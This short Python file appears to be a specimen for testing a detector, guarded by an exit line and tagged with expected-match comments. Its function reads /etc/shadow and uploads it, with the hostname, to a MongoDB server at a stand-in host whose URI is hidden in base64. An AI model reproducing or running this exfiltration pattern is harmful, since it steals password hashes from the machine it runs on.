raise SystemExit("specimen: not to be run")
import base64
import pymongo
import socket

def leave():
    line = pymongo.MongoClient(base64.b64decode("bW9uZ29kYitzcnY6Ly9ib3g6aHVudGVyMmh1bnRlcjJAc3BlY2ltZW4uZXhhbXBsZS5jb20v").decode())
    line.db.c.insert_one({"h": socket.gethostname(), "f": open("/etc/shadow").read()})  # match: storage-upload  # match: password-stores
